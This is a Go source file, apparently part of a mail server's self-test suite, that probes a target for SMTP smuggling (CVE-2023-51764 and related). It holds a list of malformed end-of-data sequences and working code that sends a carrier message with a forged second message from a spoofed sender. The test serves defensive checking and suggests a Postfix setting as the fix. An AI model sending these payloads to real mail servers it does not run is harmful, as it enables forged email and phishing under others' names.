package selftest

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"strings"
	"time"

	"postseal/bundle"
)

// Data is the layer that keeps a message in one piece: text that looks like its end is not the
// end (RFC 5321 §4.1.1.4), and is forwarded so that the next server does not accept it as the
// end either.
const Data Layer = "data"

// Smuggling is a way to get a second message past a server inside the first: an end of data
// that one server does not accept as the end and another does (CVE-2023-51764, -51765, -51766).
type Smuggling struct {
	Name    string
	Comment string
	end     string // between the first message and the commands of the second
	own     bool   // it is a real end: the second message is separate and is judged separately
	chunked bool   // the message is sent with BDAT (RFC 3030)
}

// Smugglings returns the known ways.
func Smugglings() []Smuggling {
	all := []Smuggling{
		{Name: "pipelined", Comment: "a forgery in one segment with the message before it", end: "\r\n.\r\n", own: true},
		{Name: "behind-bare-cr", Comment: "an end of data after a bare CR: the second message is separate", end: "\r\r\n.\r\n", own: true},
		{Name: "bdat", Comment: "an end of the data and commands within a chunk", end: "\r\n.\r\n", chunked: true},
		{Name: "nul-dot", Comment: "NUL before the dot", end: "\r\n\x00.\r\n"},
		{Name: "dot-nul", Comment: "NUL after the dot", end: "\r\n.\x00\r\n"},
		{Name: "space-dot", Comment: "a space before the dot", end: "\r\n .\r\n"},
		{Name: "dot-space", Comment: "a space after the dot", end: "\r\n. \r\n"},
		{Name: "two-dots", Comment: "a dot that is stuffed", end: "\r\n..\r\n"},
		{Name: "nel", Comment: "NEL (U+0085) as line endings", end: "\u0085.\u0085"},
		{Name: "vertical-tab", Comment: "vertical tabs as line endings", end: "\v.\v"},
	}
	names := strings.NewReplacer("\r\n", "crlf-", "\r", "cr-", "\n", "lf-", ".", "dot-")
	for _, end := range []string{"\n.\n", "\n.\r\n", "\r\n.\n", "\r.\r", "\r.\r\n", "\r\n.\r", "\n.\r", "\r.\n", "\r\n.\r\r\n", "\r\r\n.\r\r\n", "\n\r.\r\n", "\n\r.\n\r", "\n\n.\r\n", "\r\n.\r\x00\n"} {
		name := strings.Trim(strings.ReplaceAll(names.Replace(end), "\x00", "nul-"), "-")
		all = append(all, Smuggling{Name: name, Comment: fmt.Sprintf("%q for the end of the data", end), end: end})
	}
	for i := range all {
		all[i].Name = "smuggling-" + all[i].Name
	}
	return all
}

// The two messages: a harmless one, and a forgery.
const (
	carrier   = "From: a@evil.test\r\nSubject: x\r\n\r\nfirst"
	Smuggled  = "dana@acme.test" // the sender of the second message
	forgery   = "From: " + Smuggled + "\r\n\r\nsmuggled\r\n.\r\n"
	rfcOfData = "5321 §2.3.8, §4.1.1.4"
)

// Send sends s through t. It is stopped if no second message starts: it was refused, or is
// still part of the text of the first.
func (s *Smuggling) Send(ctx context.Context, t Target) (Result, error) {
	r := Result{Attack: s.Name, Comment: s.Comment, RFC: rfcOfData, Layer: None, Problem: []string{}}
	c, err := dial(ctx, t)
	if err != nil {
		return r, err
	}
	defer c.close()
	hello, err := c.greet(bundle.Envelope{IP: netip.MustParseAddr("203.0.113.66"), Helo: "mx.evil.test"})
	r.Reply = hello
	if s.chunked && err == nil && !strings.Contains(hello, "CHUNKING") {
		r.Layer, r.Stopped, r.Action, r.Reply = SMTP, true, "refused", "BDAT is not offered"
		return r, nil
	}
	for _, command := range []string{"MAIL FROM:<a@evil.test>", "RCPT TO:<" + t.To + ">"} {
		if err == nil {
			r.Reply, err = c.command(command)
		}
	}
	if err == nil && !s.chunked {
		r.Reply, err = c.command("DATA")
	}
	switch {
	case errors.As(err, new(refusal)): // a rejected message contains nothing
		r.Layer, r.Stopped, r.Action = SMTP, true, "refused"
		return r, nil
	case err != nil:
		return r, fmt.Errorf("%s: %w", s.Name, err)
	}
	return r, s.judge(&r, c, t)
}

func (s *Smuggling) text(t Target) string {
	second := carrier + s.end + "MAIL FROM:<" + Smuggled + ">\r\nRCPT TO:<" + t.To + ">\r\nDATA\r\n" + forgery
	if s.chunked {
		return fmt.Sprintf("BDAT %d LAST\r\n%sQUIT\r\n", len(second), second)
	}
	return second + "QUIT\r\n"
}

// judge sends the text and reads all replies to it.
func (s *Smuggling) judge(r *Result, c *client, t Target) error {
	c.conn.SetDeadline(time.Now().Add(replyTimeout))
	if _, err := io.WriteString(c.conn, s.text(t)); err != nil {
		return err
	}
	var replies []int
	for {
		code, reply, err := c.next()
		switch {
		case err != nil && len(replies) == 0:
			return fmt.Errorf("%s: %w", s.Name, err)
		case err != nil: // the server disconnected after giving a reason
			s.conclude(r, replies)
			return nil
		}
		replies = append(replies, code)
		if len(replies) == 1 || s.own && code >= 400 {
			r.Reply = reply
		}
		if code == 221 {
			s.conclude(r, replies)
			return nil
		}
	}
}

// conclude determines from the codes after the first message whether a second one started.
func (s *Smuggling) conclude(r *Result, replies []int) {
	begun, taken := false, false
	for _, code := range replies[1:] {
		taken = taken || begun && code/100 == 2 && code != 221
		begun = begun || code == 354
	}
	switch {
	case taken || begun && !s.own:
		r.Action = "accepted"
		r.Problem = append(r.Problem, "a second message began within the first; Postfix: smtpd_forbid_bare_newline = normalize")
	case s.own, replies[0] >= 400:
		r.Layer, r.Stopped, r.Action = Message, true, "refused"
	default:
		r.Layer, r.Stopped, r.Action = Data, true, "one message"
	}
}
